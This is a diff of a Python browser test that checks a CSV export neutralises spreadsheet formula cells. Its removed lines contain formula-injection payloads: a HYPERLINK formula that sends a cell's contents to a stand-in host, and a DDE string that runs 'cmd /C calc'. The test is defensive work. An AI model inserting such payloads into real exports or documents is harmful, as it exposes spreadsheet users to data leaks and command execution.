@@ -1,5 +1,10 @@
 """The records table's CSV download neutralises spreadsheet formulas (issue 8): a text cell that
-starts with =, +, -, @, tab or CR is exported with a leading ', under the page's CSP (no eval)."""
+starts with =, +, -, @, tab or CR is exported with a leading ', under the page's CSP (no eval).
+
+Since issue 15 the loader refuses formula cells in the dataset itself (tests/test_loader.py), so
+what reaches the page's table is at most a signed number written in a text column; the export
+still quotes it, and the browser's rule is checked against the Python one on every kind of cell
+(test_the_browser_rule_is_the_python_rule)."""
 from __future__ import annotations
 
 import csv
@@ -10,12 +15,13 @@ from flightmap.security import neutralise_cell
 from tests.browser.conftest import wait_for_map
 from tests.conftest import DEFAULT_DATA, edit_csv
 
-# Spreadsheet row (header = 1) -> summary: each would run as a formula in Excel or LibreOffice.
+# Spreadsheet row (header = 1) -> summary: text cells the loader accepts (whole numbers) that a
+# spreadsheet would still read as a sign and a number.
 FLIGHT_SUMMARIES = {
-    2: '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
-    3: "+1+1",
-    4: "-2+3+cmd|' /C calc'!A0",
-    5: "@SUM(1,1)",
+    2: "-12.5",
+    3: "+1",
+    4: "-2",
+    5: "+0.5",
 }
 SAFE_SUMMARY = "Reported leg - with a dash inside, = and + too"
 
@@ -31,14 +37,14 @@ def test_csv_download_neutralises_formula_cells(tmp_path, server_for, page):
     for row, text in FLIGHT_SUMMARIES.items():
         edit_csv(data / "flights.csv", row, "summary", text)
     edit_csv(data / "flights.csv", 6, "summary", SAFE_SUMMARY)
-    edit_csv(data / "events.csv", 4, "title", "=1+2")  # the table's summary is "title: summary"
-    edit_csv(data / "events.csv", 8, "aircraft", "@Il-76 (reported)")
+    edit_csv(data / "events.csv", 4, "title", "-1")  # the table's summary is "title: summary"
+    edit_csv(data / "events.csv", 8, "aircraft", "-7")
     server = server_for(data)
     page.goto(server.url)
     wait_for_map(page)
     page.wait_for_selector("#records-table .ag-row", timeout=20_000)
     # The grid shows the text as it is: only the export changes.
-    assert page.locator("#records-table .ag-cell[col-id=summary]", has_text="+1+1").count() == 1
+    assert page.locator("#records-table .ag-cell[col-id=summary]", has_text="+0.5").count() == 1
 
     with page.expect_download(timeout=20_000) as info:
         page.locator("#table-export").click()
@@ -49,8 +55,8 @@ def test_csv_download_neutralises_formula_cells(tmp_path, server_for, page):
     for text in FLIGHT_SUMMARIES.values():
         assert "'" + text in summaries and text not in summaries
     assert SAFE_SUMMARY in summaries
-    assert any(s.startswith("'=1+2: ") for s in summaries)
-    assert "'@Il-76 (reported)" in {r["aircraft"] for r in rows}
+    assert any(s.startswith("'-1: ") for s in summaries)
+    assert "'-7" in {r["aircraft"] for r in rows}
     # Dates, places and every other cell that starts harmlessly are exported unchanged.
     assert {r["from"] for r in rows} >= {"2023-08-20"}
     assert all(not r["from"].startswith("'") for r in rows)
